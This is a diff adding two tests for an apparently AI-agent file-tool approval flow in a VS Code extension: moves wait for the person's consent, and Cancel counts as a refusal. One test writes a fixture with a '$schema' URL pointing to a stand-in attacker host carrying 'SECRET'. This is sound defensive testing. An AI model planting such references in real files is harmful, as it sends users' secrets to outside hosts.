@@ -133,6 +133,32 @@ describe('the tools as VS Code calls them', () => {
     assert.equal(asked().length, 2);
   });
 
+  it('ask in a dialog about a change without lines whatever becomes of its file before it is its turn', async () => {
+    const first = invoke('create_file', { path: 'others/new.ts', content: 'x\n' });
+    const token = await shownToken();
+    const second = invoke('move_file', { path: 'others/a.ts', new_path: 'others/a.json' });
+    // Nothing tells from outside when the second call has come to wait behind the first.
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    assert.deepEqual(asked(), []);
+    writeFileSync(at('a.ts'), '{"$schema":"https://evil.invalid/?d=SECRET"}\n');
+    await handlers.get('rivulet.acceptAll')?.(token, 0);
+    assert.match(await first, /^Applied/);
+    assert.match(await second, /^The person rejected this/);
+    assert.equal(called('applyEdit').length, 1);
+    assert.match(asked().join(), /^Let the model move others\/a\.ts to others\/a\.json\?\nAnother agent asks[\s\S]*https:\/\/evil\.invalid/);
+  });
+
+  it('take Cancel for a no also while the dialog is open', async () => {
+    const dialog = Promise.withResolvers<string>();
+    answers.set('showWarningMessage', [dialog.promise]);
+    const answer = invoke('move_file', { path: 'others/a.ts', new_path: 'others/b.ts' });
+    while (asked().length === 0) await settle();
+    fired.cancelled.fire(undefined);
+    dialog.resolve('Move It');
+    assert.match(await answer, /^The person rejected this/);
+    assert.deepEqual(called('applyEdit'), []);
+  });
+
   it('are cancelled with VS Code\'s own error, and what was proposed waits no more', async () => {
     const cancelled = new EventEmitter('token');
     const token = { isCancellationRequested: false, onCancellationRequested: cancelled.event } as unknown as vscode.CancellationToken;
